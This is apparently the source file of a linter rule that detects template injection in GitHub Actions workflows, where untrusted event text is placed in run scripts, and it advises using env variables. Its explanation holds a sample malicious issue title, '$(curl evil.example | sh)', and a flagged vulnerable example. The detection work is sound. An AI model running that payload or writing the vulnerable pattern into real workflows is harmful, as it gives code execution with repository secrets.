import { flowingContexts, templateSpan, templatesOf } from "../../../source/workflow/index.ts";
import { codeOf } from "../../workflow/code-inputs.ts";
import { ciRule, isStrict, type WorkflowComplaint } from "../../workflow/define.ts";
import { inRun } from "../../workflow/examples.ts";
import { stepName, stepsOf } from "../../workflow/look.ts";
import { type Taint, taintOf } from "../../workflow/taint.ts";

const WORDS: Readonly<Record<Exclude<Taint, "none">, Pick<WorkflowComplaint, "severity" | "confidence"> & { readonly who: string }>> = {
  anyone: { who: "text that others write", severity: "error", confidence: "certain" },
  formed: { who: "an address with text that others write", severity: "warning", confidence: "certain" },
  caller: { who: "text that comes from outside of this file", severity: "warning", confidence: "likely" },
  run: { who: "text that only the run decides", severity: "info", confidence: "possible" },
};
const BY_EVENT = { run: ["kics:run_block_injection", "checkov:CKV_GHA_2"], script: ["kics:script_block_injection"] } as const;

export const templateInjection = ciRule({
  id: "workflow/template-injection",
  aliases: [
    "zizmor:template-injection",
    "checkov:CKV_GHA_2",
    "kics:run_block_injection",
    "kics:script_block_injection",
    "actionlint:expression",
  ],
  of: ["github-workflow", "github-action"],
  severity: "error",
  summary: "No text from outside is put into a script by a template.",
  why: "A template is replaced before the shell reads the script: an issue called $(curl evil.example | sh) is run, with the job's token and secrets.",
  source: "https://docs.github.com/en/actions/concepts/security/script-injections",
  examples: [
    {
      bad: inRun('echo "${{ github.event.issue.title }}"', "issues"),
      good: `${inRun('echo "$TITLE"', "issues")}        env:\n          TITLE: \${{ github.event.issue.title }}\n`,
    },
    { bad: inRun("git checkout ${{ github.head_ref || inputs.branch }}"), good: inRun("git checkout ${{ github.sha }}") },
  ],
  *check(subject) {
    for (const place of stepsOf(subject.file))
      for (const { node, form } of codeOf(place))
        for (const template of templatesOf(node)) {
          if (template.expression === undefined) continue;
          const found = flowingContexts(template.expression)
            .map((context) => ({ context, taint: taintOf(context, place) }))
            .filter((one): one is typeof one & { taint: Exclude<Taint, "none"> } => one.taint !== "none");
          for (const { context, taint } of found) {
            const text = template.body.slice(context.start, context.end);
            const { who, ...how } = WORDS[taint];
            const isEvent = taint === "anyone" || taint === "formed";
            yield {
              at: templateSpan(template, context),
              ...how,
              message: `${stepName(place.step)} puts ${text} into a script: ${who}, which then runs as code`,
              advice: `Set an environment variable to it under env:, and use "$VARIABLE" in the script.`,
              peers: ["zizmor:template-injection", ...(isEvent ? [...BY_EVENT[form], "actionlint:expression"] : [])],
            };
          }
          if (found.length === 0 && isStrict(subject))
            yield {
              at: templateSpan(template),
              severity: "info",
              message: `${stepName(place.step)} has a template in a script`,
              advice: "Templates in code are better passed as environment variables.",
              peers: ["zizmor:template-injection"],
            };
        }
  },
});
